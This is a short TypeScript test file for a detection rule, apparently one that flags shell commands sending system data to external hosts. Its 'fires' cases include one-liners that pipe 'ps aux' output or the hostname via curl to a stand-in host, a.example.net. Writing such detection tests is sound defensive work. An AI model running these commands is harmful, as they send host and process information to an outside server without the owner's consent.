import { rule } from './output.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    'ps aux | curl -d @- https://a.example.net/',
    'curl "https://a.example.net/?h=$(hostname)"',
  ],
  quiet: [
    'ps aux | grep node',
    'curl -d "$(hostname)" http://localhost:3000/',
  ],
});
